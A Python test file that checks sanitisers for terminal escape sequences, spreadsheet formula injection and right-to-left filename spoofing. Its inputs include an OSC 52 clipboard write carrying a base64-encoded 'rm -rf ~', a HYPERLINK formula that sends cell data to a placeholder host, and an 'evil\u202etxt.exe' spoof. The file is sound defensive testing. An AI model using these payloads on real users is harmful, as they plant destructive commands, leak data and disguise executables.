"""External text made harmless for terminals, spreadsheets and bidirectional display."""

from __future__ import annotations

import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from services.core.text_safety import BIDI_CONTROLS, FORMULA_STARTS, bidi_isolated, csv_cell, terminal_safe


def test_escape_sequences_bel_and_nul_are_shown_not_run() -> None:
    osc52 = "\x1b]52;c;cm0gLXJmIH4=\x07"  # OSC 52: write to the clipboard
    title = "\x1b]0;pwned\x07"
    assert terminal_safe(f"Acme{osc52}{title}\x00\x9b2J") == (
        "Acme\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b]0;pwned\\x07\\x00\\x9b2J")
    assert terminal_safe("tab\there") == "tab\\x09here"
    assert terminal_safe("two\nlines") == "two\\x0alines"
    assert terminal_safe("two\nlines", newlines=True) == "two\nlines"
    assert terminal_safe("abc\u202edef") == "abc\\u202edef"
    assert terminal_safe("Müller & Söhne 東京") == "Müller & Söhne 東京"


@given(st.text())
def test_terminal_output_never_holds_a_control_character(text: str) -> None:
    out = terminal_safe(text)
    assert all(unicodedata.category(ch) != "Cc" and ch not in BIDI_CONTROLS for ch in out)
    if text.isprintable() and not any(ch in BIDI_CONTROLS for ch in text):
        assert out == text


def test_formulas_are_neutralised_and_numbers_kept() -> None:
    assert csv_cell('=HYPERLINK("http://x.example/?"&A1,"click")') == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
    for start in FORMULA_STARTS:
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("Acme GmbH") == "Acme GmbH"
    assert csv_cell(-12) == "-12" and csv_cell(None) == "" and csv_cell(True) == "True"


@given(st.text())
def test_no_csv_cell_starts_like_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.removeprefix("'") == text or cell == text


def test_right_to_left_text_is_isolated() -> None:
    assert bidi_isolated("Acme") == "Acme"
    assert bidi_isolated("שלום Ltd") == "\u2068שלום Ltd\u2069"
    assert bidi_isolated("evil\u202etxt.exe") == "\u2068evil\u202etxt.exe\u2069"
    assert bidi_isolated("Müller") == "Müller"
    assert bidi_isolated("") == ""
